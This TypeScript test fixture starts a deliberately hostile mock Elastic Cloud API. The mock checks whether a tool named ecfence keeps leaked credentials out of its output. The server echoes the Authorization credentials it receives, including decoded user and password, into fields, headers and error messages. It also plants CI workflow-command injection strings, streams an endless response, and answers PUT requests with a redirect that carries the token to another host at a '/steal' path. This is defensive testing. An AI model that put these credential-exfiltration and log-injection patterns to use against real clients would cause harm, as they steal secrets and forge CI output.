import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A misbehaving Elastic API for the canary suite: it answers ecfence's reads and writes well enough
 * for every command to run, and echoes the credentials it receives everywhere it can — in ids,
 * names, descriptions and rules, in the ETag and error-code headers, in error messages at every
 * position around the 500-character cut, in redirects to another host and in garbage bodies — along
 * with lines that would be workflow commands in a CI log. The boundary under test is ecfence's
 * output, not this server.
 */
export interface HostileApi {
  url: string;
  /** Requests received, by method and path. */
  requests: { method: string; path: string }[];
  close(): Promise<void>;
}

/** What a log reader must never take for a command, planted in server text. */
export const INJECTED = '\n::error title=Injected::pwned\r::warning::x ##[error]legacy';

export const MESSAGE_CUT = 500;

/** Every form of the credentials in an Authorization header, as a hostile server might echo them. */
export function echoesOf(authorization: string): { header: string; others: string[] } {
  const [scheme, value = ''] = authorization.split(' ');
  const others = [value, value.toUpperCase(), value.toLowerCase(), Buffer.from(value).toString('base64')];
  if (scheme === 'Basic') {
    const decoded = Buffer.from(value, 'base64').toString('utf8');
    const colon = decoded.indexOf(':');
    others.push(decoded, decoded.slice(0, colon), decoded.slice(colon + 1));
  }
  return { header: authorization, others };
}

const DEPLOYMENT = 'a0000000000000000000000000000001';
const PROJECT = 'c0000000000000000000000000000001';

export async function startHostileApi(options: { redirectTo: string }): Promise<HostileApi> {
  const creates = new Map<string, number>();
  const api: HostileApi = {
    url: '',
    requests: [],
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };

  const handle = (req: IncomingMessage, res: ServerResponse): void => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    const path = url.pathname;
    const method = req.method ?? 'GET';
    api.requests.push({ method, path });
    const auth = req.headers.authorization ?? 'none';
    const { header, others } = echoesOf(auth);
    const echo = `${[header, ...others].join(' ')}${INJECTED}`;
    const json = (status: number, body: unknown, headers: Record<string, string> = {}): void => {
      res.writeHead(status, {
        'content-type': 'application/json',
        etag: `"${others[0] ?? ''}"`,
        'x-cloud-error-codes': others[0] ?? '',
        ...headers,
      });
      res.end(JSON.stringify(body));
    };

    if (path.startsWith('/junk/')) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(Buffer.concat([Buffer.from(`garbage ${echo} `), Buffer.from([0xff, 0xfe, 0x00])]));
      return;
    }
    if (path.startsWith('/huge/')) {
      // An endless body: ecfence must refuse it without holding it.
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      let closed = false;
      res.on('close', () => (closed = true));
      const pump = (): void => {
        while (!closed && res.write(chunk));
        if (!closed) res.once('drain', pump);
      };
      pump();
      return;
    }

    const rule = { source: '10.0.0.0/8', description: echo };
    if (method === 'GET' && path === '/api/v1/deployments/traffic-filter/rulesets') {
      const region = url.searchParams.get('region') ?? 'us-east-1';
      return json(200, {
        rulesets: [
          {
            id: `id-${others[0]}`,
            name: 'office',
            region,
            type: 'ip',
            description: echo,
            include_by_default: false,
            rules: [rule],
            associations: [{ entity_type: 'deployment', id: DEPLOYMENT }],
          },
          {
            id: `other-${others[1]}`,
            name: `unmanaged ${echo}`,
            region,
            type: 'ip',
            include_by_default: false,
            rules: [rule],
            associations: [{ entity_type: 'deployment', id: DEPLOYMENT }],
          },
        ],
      });
    }
    if (method === 'GET' && path === '/api/v1/deployments') {
      return json(200, {
        deployments: [
          {
            id: DEPLOYMENT,
            name: `prod ${echo}`,
            resources: [{ kind: 'elasticsearch', region: 'us-east-1' }],
          },
        ],
      });
    }
    if (method === 'POST' && path === '/api/v1/deployments/traffic-filter/rulesets') {
      // The i-th create of a credential moves the header's place in the message by one, from
      // ending exactly at the cut to starting right after it: every cut position inside it.
      const i = creates.get(auth) ?? 0;
      creates.set(auth, i + 1);
      const prefix = `${others.join(' ')} `;
      const start = MESSAGE_CUT - header.length + (i % (header.length + 1));
      // A long tail keeps the message over the cut once its echoes are redacted.
      const tail = ` tail${INJECTED}${'y'.repeat(2 * MESSAGE_CUT)}`;
      const message = `${prefix}${'x'.repeat(Math.max(0, start - prefix.length))}${header}${tail}`;
      return json(400, { errors: [{ code: `${others[0]}${INJECTED}`, message }] });
    }
    if (method === 'PUT') {
      // Follow me elsewhere, with your key.
      res.writeHead(307, {
        location: `${options.redirectTo}/steal?token=${encodeURIComponent(others[0] ?? '')}`,
      });
      res.end(echo);
      return;
    }
    if (method === 'GET' && path === '/api/v1/serverless/traffic-filters/metadata') {
      return json(200, {
        regions: [
          {
            region: 'aws-us-east-1',
            csp: 'aws',
            private_service_name: echo,
            private_hosted_zone_domain_name: `zone.${others[0]}`,
            availability_zones: [{ name: echo, id: 'use1-az1' }],
          },
        ],
      });
    }
    if (method === 'GET' && path === '/api/v1/serverless/traffic-filters') {
      return json(200, {
        items: [
          {
            id: `f-${others[0]}`,
            name: 'office',
            region: 'aws-us-east-1',
            type: 'ip',
            description: echo,
            rules: [rule],
          },
        ],
      });
    }
    if (method === 'GET' && path.startsWith('/api/v1/serverless/projects/')) {
      const items = path.endsWith('/elasticsearch')
        ? [
            {
              id: PROJECT,
              name: echo,
              region_id: 'aws-us-east-1',
              traffic_filters: [{ id: `f-${others[0]}` }],
            },
          ]
        : [];
      return json(200, { items });
    }
    // Anything else: a proxy's HTML page with the credentials in it.
    res.writeHead(403, { 'content-type': 'text/html' });
    res.end(`<html><body>${echo}</body></html>`);
  };

  const server: Server = createServer((req, res) => {
    req.resume();
    req.on('end', () => handle(req, res));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  api.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return api;
}

/** A host that should never hear from ecfence: it records whatever reaches it. */
export async function startElsewhere(): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
